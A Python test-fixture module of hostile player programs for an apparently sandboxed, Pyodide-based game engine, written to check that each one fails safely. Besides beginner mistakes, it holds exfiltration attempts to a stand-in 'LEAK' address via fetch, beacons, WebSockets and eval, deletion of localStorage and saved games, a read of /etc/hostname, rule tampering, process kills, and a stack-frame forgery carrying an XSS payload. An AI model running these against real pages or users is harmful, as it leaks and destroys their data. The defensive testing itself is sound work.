"""Players that do what no player should, each with the kind of fault that it must end in.

Some of them have a mistake that a learner makes, others try to break what is around them. What Python cannot survive in
one process is in `DEADLY`: only the walls around the engine can end it.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Hostile(NamedTuple):
    """A text with a player `bot`, and how it must end."""

    kind: str
    text: str


def plays(body: str, before: str = "") -> str:
    """Return the text of a player with this body."""
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    return f"{before}\ndef bot(state):\n{lines}\n"


LEGAL = "return state.legal_actions()[0]"
FIELD = (
    'next(name for kind in type(state).__mro__ for name in getattr(kind, "__slots__", ())'
    " if getattr(state, name) is not None)"
)
"""The name of a field of the state."""
VALUE = "class Value:\n    def {}(self, *others):\n        raise SystemExit('gone')\n    __hash__ = object.__hash__"

HOSTILE: Final[dict[str, Hostile]] = {
    # Mistakes
    "nothing returned": Hostile("nothing", plays("state.legal_actions()[0]")),
    "an action of nowhere": Hostile("illegal", plays('return "fly"')),
    "a number": Hostile("kind", plays("return 5")),
    "a huge number": Hostile("kind", plays("return 10 ** 100_000")),
    "all actions": Hostile("several", plays("return state.legal_actions()")),
    "a function": Hostile("kind", plays("return max")),
    "a position": Hostile("kind", plays("return state.apply_action(state.legal_actions()[0])")),
    "a generator": Hostile("generator", plays("yield state.legal_actions()[0]")),
    "a coroutine": Hostile("generator", "async def bot(state):\n    return state.legal_actions()[0]\n"),
    "an asynchronous generator": Hostile("generator", "async def bot(state):\n    yield state.legal_actions()[0]\n"),
    "no values": Hostile("nothing", plays("return {}")),
    "a value that is none": Hostile("value", plays("return {a: None for a in state.legal_actions()}")),
    "a value that is no number": Hostile("value", plays('return {a: float("nan") for a in state.legal_actions()}')),
    "a name that is misspelt": Hostile("name", plays("return stat.legal_actions()[0]")),
    "a method that is misspelt": Hostile("attribute", plays("return state.legal_action()[0]")),
    "an action from elsewhere": Hostile("passed", plays("return state.apply_action(None)")),
    "an attribute of None": Hostile("attribute", plays("return state.result().winners")),
    "a place too far": Hostile("index", plays("return state.legal_actions()[99]")),
    "a missing key": Hostile("key", plays('return {}["best"]')),
    "two kinds": Hostile("type", plays("return state.legal_actions() + 1")),
    "nought": Hostile("zero", plays("return 1 / 0")),
    "no end of recursion": Hostile("recursion", plays("return bot(state)")),
    "a deeper recursion": Hostile("recursion", plays("import sys\nsys.setrecursionlimit(10 ** 9)\nreturn bot(state)")),
    "more memory than there is": Hostile("memory", plays("return [0] * 10 ** 15")),
    "the end of the program": Hostile("exit", plays("import sys\nsys.exit()")),
    "an end from a class": Hostile("exit", plays("raise SystemExit('bye')")),
    "a question": Hostile("input", plays('return input("which?")')),
    "prints without end": Hostile("output", plays("while True:\n    print('x' * 1000)")),
    "an interrupt": Hostile("error", plays("raise BaseException('from below')")),
    # What belongs to others
    "a thread": Hostile("import", plays("import threading\n" + LEGAL)),
    "a socket": Hostile("import", plays("import socket\n" + LEGAL)),
    "the page": Hostile("import", plays("import js\n" + LEGAL)),
    "the engine": Hostile("import", plays("from pyodide.code import run_js\n" + LEGAL)),
    "the system": Hostile("import", plays("import os\nos._exit(1)")),
    "a signal": Hostile("import", plays("import signal\nsignal.alarm(1)")),
    "another state": Hostile("changed", plays(f"setattr(state, {FIELD}, None)\nreturn 'x'")),
    "a state from below": Hostile("changed", plays(f"object.__setattr__(state, {FIELD}, None)\nreturn 'x'")),
    "other rules": Hostile("changed", plays("type(state).legal_actions = lambda self: ['win']\nreturn 'win'")),
    "the code of the rules": Hostile(
        "changed",
        plays("type(state).legal_actions.__code__ = (lambda self: ['win']).__code__\nreturn 'win'"),
    ),
    "a rule that is gone": Hostile("changed", plays("del type(state).apply_action\n" + LEGAL)),
    "another len": Hostile("changed", plays("import builtins\nbuiltins.len = lambda x: 0\n" + LEGAL)),
    "no isinstance": Hostile("changed", plays("import builtins\ndel builtins.isinstance\n" + LEGAL)),
    "another JSON": Hostile("changed", plays("import json\njson.dumps = None\n" + LEGAL)),
    "modules that are gone": Hostile(
        "changed", plays("import sys\nfor name in list(sys.modules):\n    del sys.modules[name]\n" + LEGAL)
    ),
    "somebody who looks on": Hostile("changed", plays("import sys\nsys.settrace(lambda *_: None)\n" + LEGAL)),
    "no output": Hostile("", plays("import sys\nsys.stdout = sys.stderr = None\n" + LEGAL)),
    # Things that fail wherever they are touched
    "an equality that ends": Hostile("kind", plays("return Value()", VALUE.format("__eq__"))),
    "a hash that ends": Hostile(
        "exit", plays("return {Value(): 1}", "class Value:\n    def __hash__(self):\n        raise SystemExit")
    ),
    "a name that ends": Hostile("kind", plays("return Value()", VALUE.format("__repr__"))),
    "an attribute that ends": Hostile("kind", plays("return Value()", VALUE.format("__getattribute__"))),
    "a deletion that ends": Hostile("", plays("Value()\n" + LEGAL, VALUE.format("__del__"))),
    "a text of one's own": Hostile(
        "illegal",
        plays(
            'return Text("x")',
            "class Text(str):\n    def __eq__(self, o):\n        raise SystemExit\n"
            "    __hash__ = str.__hash__\n    __str__ = __repr__ = __eq__",
        ),
    ),
    "a number of one's own": Hostile(
        "value",
        plays(
            "return {a: Number(1) for a in state.legal_actions()}",
            "class Number(int):\n    def __float__(self):\n        raise SystemExit\n    __repr__ = __float__",
        ),
    ),
    "a failure that cannot be told": Hostile(
        "error", plays("raise Failure", "class Failure(Exception):\n    def __str__(self):\n        raise SystemExit")
    ),
    "a class that lies": Hostile(
        "kind", plays("return Liar()", "class Liar:\n    @property\n    def __class__(self):\n        raise SystemExit")
    ),
    "a class that needs something": Hostile(
        "parameters",
        "class bot:\n    def __init__(self, depth):\n        pass\n    def __call__(self, state):\n        pass\n",
    ),
    "two parameters": Hostile("parameters", "def bot(state, seat):\n    return state.legal_actions()[0]\n"),
    # Texts that are no players
    "a colon that is missing": Hostile("syntax", "def bot(state)\n    pass\n"),
    "a line too far to the left": Hostile("indentation", "def bot(state):\nreturn 1\n"),
    "a bracket": Hostile("syntax", "def bot(state):\n    return (1\n"),
    "brackets without end": Hostile("syntax", "(" * 5_000),
    "a minus without end": Hostile("", "x = " + "-" * 100_000 + "1\n"),
    "a nought byte": Hostile("", "def bot(state):\n    return '\0'\n"),
    "half of a character": Hostile("illegal", plays("return '\ud83d'")),
    "nobody": Hostile("nobody", "x = 1\n"),
    "an end while loading": Hostile("exit", "raise SystemExit\n"),
    "a failure while loading": Hostile("zero", "x = 1\ny = 1 / 0\n"),
}
"""An empty kind: it may end as it likes, with a legal action, too."""

DEADLY: Final[dict[str, str]] = {
    "a loop without end": plays("while True:\n    pass"),
    "a loop that catches all": plays(
        "while True:\n    try:\n        print('x' * 10_000)\n    except BaseException:\n        pass"
    ),
    "the end of the process": plays("import sys\nsys.modules['os']._exit(1)"),
    "memory bit by bit": plays("kept = []\nwhile True:\n    kept.append(bytes(10 ** 8))"),
    "a number without end": plays("return 9 ** 9 ** 9"),
}
"""What no Python survives: the walls must end it, and tell it, with a time limit and a new engine."""

DEADLY_TO_READ: Final[dict[str, str]] = {
    "a text without end": "while True:\n    pass\n",
    "a text that ends the process": "import sys\nsys.modules['os']._exit(1)\n",
}
"""The same, while the text is read."""

ATTACKS: Final[dict[str, str]] = {
    "the page": "js.document.title",
    "the page around the frame": "js.parent.postMessage('secret', '*')",
    "settings": "js.localStorage.clear()",
    "saved games": "js.indexedDB.deleteDatabase('spieltisch:/')",
    "caches": "js.caches.delete('kept')",
    "other tabs": "js.BroadcastChannel.new('spieltisch').postMessage('secret')",
    "fetch": "js.fetch('LEAK')",
    "a request": "js.XMLHttpRequest.new().open('GET', 'LEAK', False)",
    "a beacon": "js.navigator.sendBeacon('LEAK')",
    "a socket": "js.WebSocket.new('LEAK')",
    "importScripts": "js.importScripts('LEAK')",
    "a worker": "js.Worker.new('LEAK')",
    "a message of its own": "js.postMessage('secret')",
    "JavaScript": "js.eval('fetch(`LEAK`)')",
    "a function in JavaScript": "js.Object.constructor('fetch(`LEAK`)')()",
    "JavaScript by Pyodide": "load('pyodide.code').code.run_js('fetch(`LEAK`)')",
    "a request by Pyodide": "load('pyodide.http').http.open_url('LEAK')",
    "a request by Python": "load('urllib.request').request.urlopen('LEAK')",
    "a socket of Python": "load('socket').create_connection(('127.0.0.1', 80), 1)",
    "a file of the computer": "open('/etc/hostname').read()",
}
"""What a player may try that goes round the refusal of `import`, by name; LEAK stands for an address of the host."""
RETURNS_AT_ONCE: Final = frozenset({"fetch"})
"""Those that return a promise, which fails later: this `fetch` knows only the engine's own files."""


def attacks(address: str) -> str:
    """Return the text of a player that tries all of `ATTACKS`, prints what has come of each, and plays on.

    :param address: what stands in place of LEAK.
    """
    tried = [
        f"try:\n    {code.replace('LEAK', address)}\n    print({name!r}, 'done', sep=': ')\n"
        f"except BaseException as error:\n    print({name!r}, type(error).__name__, sep=': ')"
        for name, code in ATTACKS.items()
    ]
    # Modules of Pyodide change `time.sleep`; put back, it does not hide the rest behind one sentence.
    first = ["import builtins, time", "sleep, load = time.sleep, builtins.__import__", "js = load('js')"]
    return plays("\n".join([*first, *tried, "time.sleep = sleep", LEGAL]))


FORGED: Final = plays(
    "frame = sys._getframe()\n"
    "while not (frame.f_code.co_name == '_decide' and 'game' in frame.f_locals):\n"
    "    frame = frame.f_back\n"
    "frame.f_locals['game'] = Forger()\n" + LEGAL,
    "import sys\n\nclass Forger:\n    def action_to_string(self, action):\n"
    "        return '<img src=x onerror=\"document.title = 1\">'\n",
)
"""Gives the page another answer than its own, in the program that asks it."""
